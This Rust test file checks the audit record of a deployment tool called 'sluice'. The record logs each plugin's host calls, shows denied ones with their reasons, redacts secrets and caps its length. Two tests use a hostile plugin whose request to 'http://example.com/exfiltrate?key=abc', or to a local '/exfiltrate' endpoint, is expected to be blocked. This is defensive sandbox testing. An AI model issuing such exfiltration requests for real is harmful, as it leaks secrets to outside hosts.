//! The record of every deployment in state: its events, and every host call each plugin made
//! (what it reached, allowed or denied and why), read back by `sluice audit calls`. It lists a
//! blue-green deploy's Caddy admin requests and container calls, shows a hostile plugin's denied
//! requests as denied with the reason (through `sluice:deploy/http` and through `fetch()` in a
//! JavaScript plugin), never holds a secret's value, is kept on both state
//! engines, ends with a marker when a deployment makes more calls than it keeps, and is not kept
//! when `SLUICE_RECORD=off`.

use std::process::Command;

use crate::support::database::{Engine, TestDb};
use crate::support::js::{Build, http_grant, plugin_project, test_component};
use crate::support::migrations::MigrationProject;
use crate::support::plans::secrets_plan;
use crate::support::project::{ENV, Project, test_plugin_plan};
use crate::support::scripted::ScriptedServer;
use crate::support::stack::Stack;
use crate::support::{EXIT_ROLLED_BACK, EXIT_SUCCESS, Run, sluice};

const TOKEN: &str = "tok-rec0rd-VALUE-5e1f";
const OTHER: &str = "other-rec0rd-VALUE-77c2";
/// The environment variable a PostgreSQL plan reads its state URL from.
const STATE_URL: &str = "SLUICE_TEST_RECORD_STATE_URL";

/// The recorded calls `sluice audit calls --output json` prints, one JSON object each.
fn calls_of(run: &Run) -> Vec<serde_json::Value> {
    assert_eq!(run.code, EXIT_SUCCESS, "{}", run.all());
    run.stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}")))
        .collect()
}

/// The recorded calls of `interface.function`.
fn named<'a>(calls: &'a [serde_json::Value], function: &str) -> Vec<&'a serde_json::Value> {
    calls
        .iter()
        .filter(|c| format!("{}.{}", c["interface"], c["function"]).replace('"', "") == function)
        .collect()
}

/// The `[state]` table (and the secret it reads) for `db`.
fn state_table(db: &TestDb) -> String {
    match db.engine {
        Engine::Sqlite => format!("[state]\nurl = \"{}\"\n", db.url),
        Engine::Postgres => format!(
            "[state]\nurl = \"${{secret.state_url}}\"\n[secrets.state_url]\nenv = \"{STATE_URL}\"\n"
        ),
    }
}

/// A project whose unit `app` is deployed by leaky-secrets (granted `token`, not `other`),
/// keeping its state in `db`.
fn leaky_project(db_of: impl FnOnce(&Project) -> TestDb) -> (Project, TestDb) {
    let project = Project::new();
    let db = db_of(&project);
    project.write_plan(&secrets_plan("leaky-secrets", &state_table(&db)));
    (project, db)
}

/// `sluice ARGS` in `project` with the secrets set and the state URL of `db`.
fn run(project: &Project, db: &TestDb, args: &[&str]) -> Run {
    sluice_env(project, db, args, &[])
}

fn sluice_env(project: &Project, db: &TestDb, args: &[&str], env: &[(&str, &str)]) -> Run {
    let mut command: Command = sluice(project.path());
    command
        .env("SLUICE_TEST_TOKEN", TOKEN)
        .env("SLUICE_TEST_OTHER", OTHER)
        .env(STATE_URL, &db.url)
        .envs(env.iter().copied())
        .args(args);
    command.output().unwrap().into()
}

on_both_engines!(
    the_record_names_the_secrets_asked_for_shows_the_ungranted_one_denied_and_holds_no_secret_value,
);

fn the_record_names_the_secrets_asked_for_shows_the_ungranted_one_denied_and_holds_no_secret_value(
    engine: Engine,
) {
    let (project, db) =
        leaky_project(|project| TestDb::create(engine, "deployment_record", project.path()));
    let apply = run(&project, &db, &["apply", "--env", ENV, "--version", "v1"]);
    assert_ne!(apply.code, EXIT_SUCCESS, "leaky-secrets fails its stage");

    let calls = calls_of(&run(
        &project,
        &db,
        &["audit", "calls", "--env", ENV, "--output", "json"],
    ));
    let secrets: Vec<_> = named(&calls, "secrets.get")
        .into_iter()
        .map(|c| {
            (
                c["unit"].clone(),
                c["call"].clone(),
                c["target"].clone(),
                c["verdict"].clone(),
            )
        })
        .collect();
    assert_eq!(
        secrets,
        [
            ("app", "stage", "token", "allowed"),
            ("app", "stage", "other", "denied")
        ]
        .map(|(u, c, t, v)| (u.into(), c.into(), t.into(), v.into())),
        "{calls:#?}"
    );
    let denied = named(&calls, "secrets.get")[1];
    assert!(
        denied["reason"]
            .as_str()
            .is_some_and(|r| r.contains("`other` is not granted to plugin `leaky`")),
        "{denied}"
    );

    let events = db.query("SELECT event FROM deployment_events ORDER BY seq");
    let names: Vec<String> = events
        .iter()
        .map(|row| {
            let event: serde_json::Value =
                serde_json::from_str(row[0].as_deref().unwrap()).unwrap();
            event["event"].as_str().unwrap().to_owned()
        })
        .collect();
    assert_eq!(
        names.first().map(String::as_str),
        Some("deployment-started")
    );
    assert_eq!(
        names.last().map(String::as_str),
        Some("deployment-finished")
    );
    assert!(names.iter().any(|n| n == "plugin-log"), "{names:?}");

    let table = run(&project, &db, &["audit", "calls", "--env", ENV]);
    assert!(table.stdout.contains("secrets.get"), "{}", table.all());
    let stored = [
        db.query("SELECT * FROM capability_calls"),
        db.query("SELECT * FROM deployment_events"),
    ]
    .concat();
    let mut everything = format!("{stored:?}\n{}\n{}", table.all(), apply.all());
    everything.push_str(&format!("{calls:?}"));
    for secret in [TOKEN, OTHER] {
        assert!(
            !everything.contains(secret),
            "{secret} leaked: {everything}"
        );
    }
    assert!(
        everything.contains("the token is [REDACTED]"),
        "the plugin's log was kept, redacted: {stored:?}"
    );
}

#[test]
fn a_deployment_making_more_calls_than_the_record_keeps_ends_its_record_with_a_marker() {
    let (project, db) =
        leaky_project(|project| TestDb::create(Engine::Sqlite, "record_bound", project.path()));
    let limit = [("SLUICE_RECORD_CALLS", "2")];
    sluice_env(
        &project,
        &db,
        &["apply", "--env", ENV, "--version", "v1"],
        &limit,
    );

    let calls = calls_of(&run(
        &project,
        &db,
        &["audit", "calls", "--env", ENV, "--output", "json"],
    ));
    let verdicts: Vec<_> = calls.iter().map(|c| c["verdict"].clone()).collect();
    assert_eq!(verdicts, ["allowed", "allowed", "cut"], "{calls:#?}");
    assert!(
        calls[2]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("at most 2 calls of a deployment")),
        "{calls:#?}"
    );
}

#[test]
fn a_deployment_run_with_the_record_off_keeps_no_calls_and_the_next_one_keeps_its_own() {
    let (project, db) =
        leaky_project(|project| TestDb::create(Engine::Sqlite, "record_off", project.path()));
    let off = [("SLUICE_RECORD", "off")];
    let first = sluice_env(
        &project,
        &db,
        &["apply", "--env", ENV, "--version", "v1"],
        &off,
    );
    assert_eq!(first.code, EXIT_ROLLED_BACK, "{}", first.all());
    let audit = ["audit", "calls", "--env", ENV, "--output", "json"];
    assert!(calls_of(&run(&project, &db, &audit)).is_empty());

    let second = run(&project, &db, &["apply", "--env", ENV, "--version", "v2"]);
    assert_eq!(second.code, EXIT_ROLLED_BACK, "{}", second.all());
    assert!(!named(&calls_of(&run(&project, &db, &audit)), "secrets.get").is_empty());
}

#[test]
fn a_hostile_plugins_request_to_an_origin_not_granted_is_recorded_as_denied_with_the_reason() {
    let project = Project::v1_live_then("hostile-http", "", "");
    project.write_plan(&test_plugin_plan(
        "hostile-http",
        "[plugins.bad.grants]\nhttp = [\"http://127.0.0.1:9\"]",
        "attack = \"get\", args = [\"http://example.com/exfiltrate?key=abc\"]",
    ));
    project.sluice(&["apply", "--env", ENV, "--version", "v2"]);

    let calls = calls_of(&project.sluice(&["audit", "calls", "--env", ENV, "--output", "json"]));
    let sends = named(&calls, "http.send");
    assert_eq!(sends.len(), 1, "{calls:#?}");
    assert_eq!(
        sends[0]["target"], "GET http://example.com/exfiltrate",
        "the query is not kept"
    );
    assert_eq!(sends[0]["verdict"], "denied");
    assert!(
        sends[0]["reason"].as_str().is_some_and(
            |r| r.contains("http: origin http://example.com:80 is not granted to plugin `bad`")
        ),
        "{calls:#?}"
    );
    let id = sends[0]["deployment_id"].as_str().unwrap();
    let by_id = calls_of(&project.sluice(&["audit", "calls", id, "--output", "json"]));
    assert_eq!(
        by_id, calls,
        "the newest deployment of the environment is that one"
    );

    let table = project.sluice(&["audit", "calls", "--env", ENV]);
    assert!(
        table.stdout.contains("GET http://example.com/exfiltrate")
            && table.stdout.contains("denied")
            && table.stdout.contains("is not granted to plugin `bad`"),
        "{}",
        table.all()
    );
}

#[test]
fn the_record_of_a_blue_green_deploy_through_caddy_lists_the_caddy_admin_calls_and_the_container_calls()
 {
    let stack = Stack::new("record");
    stack.plan("blue-green", "", None, None);
    let v1 = stack.apply("v1");
    assert_eq!(v1.code, EXIT_SUCCESS, "{}", v1.all());

    let calls = calls_of(&stack.sluice(&["audit", "calls", "--env", ENV, "--output", "json"]));
    assert!(
        calls.iter().all(|c| c["verdict"] == "allowed"),
        "{calls:#?}"
    );
    let admin = format!("http://{}/", stack.caddy.admin);
    let caddy: Vec<_> = named(&calls, "http.send")
        .into_iter()
        .filter_map(|c| c["target"].as_str())
        .filter(|t| t.contains(&admin))
        .collect();
    assert!(
        caddy.iter().any(|t| !t.starts_with("GET ")),
        "a Caddy admin request that changes its config: {caddy:?}"
    );
    let created: Vec<_> = named(&calls, "containers.create")
        .into_iter()
        .map(|c| c["target"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(created.len(), 1, "{calls:#?}");
    assert!(created[0].contains(&stack.name), "{created:?}");
    assert!(!named(&calls, "containers.start").is_empty(), "{calls:#?}");
    assert!(
        calls
            .iter()
            .all(|c| c["duration_ms"].is_u64() && c["unit"].is_string()),
        "{calls:#?}"
    );
}

#[test]
fn a_javascript_plugins_fetch_to_an_origin_not_granted_is_recorded_as_denied_like_sluice_http() {
    let service = ScriptedServer::ok("granted service");
    let elsewhere = ScriptedServer::ok("never reached");
    let url = format!("{}/exfiltrate", elsewhere.origin());
    let wasm = test_component("fetch", Build::Fetch);
    let project = plugin_project(
        &wasm,
        "",
        &http_grant(&[service.origin()]),
        &format!("url = {url:?}"),
    );
    project.sluice(&["apply", "--env", ENV, "--version", "v1"]);

    let calls = calls_of(&project.sluice(&["audit", "calls", "--env", ENV, "--output", "json"]));
    let sends = named(&calls, "http.send");
    assert_eq!(sends.len(), 1, "{calls:#?}");
    assert_eq!(sends[0]["target"], format!("GET {url}"));
    assert_eq!(sends[0]["verdict"], "denied", "{calls:#?}");
    assert!(
        sends[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("is not granted to plugin `caps`")),
        "{calls:#?}"
    );
    assert_eq!(elsewhere.requests(), 0);
}

#[test]
fn the_record_of_a_migration_names_the_database_of_every_sql_call_and_no_statement() {
    let project = MigrationProject::new(Engine::Sqlite, "record_sql");
    project.plan("");
    let statement = "CREATE TABLE recorded_users (id INTEGER PRIMARY KEY);\n";
    project.migration("V1__create_users.sql", statement);
    let apply = project.apply("v1", &["--allow-irreversible"]);
    assert_eq!(apply.code, EXIT_SUCCESS, "{}", apply.all());

    let calls = calls_of(&project.sluice(&["audit", "calls", "--env", ENV, "--output", "json"]));
    let sql: Vec<_> = calls.iter().filter(|c| c["interface"] == "sql").collect();
    assert!(
        sql.iter()
            .any(|c| c["function"] == "[method]database.execute-script"),
        "{calls:#?}"
    );
    assert!(
        sql.iter().all(|c| c["target"] == "main"),
        "every sql call names the database `main`: {sql:#?}"
    );
    assert!(
        !format!("{calls:?}").contains("recorded_users"),
        "{calls:#?}"
    );
}
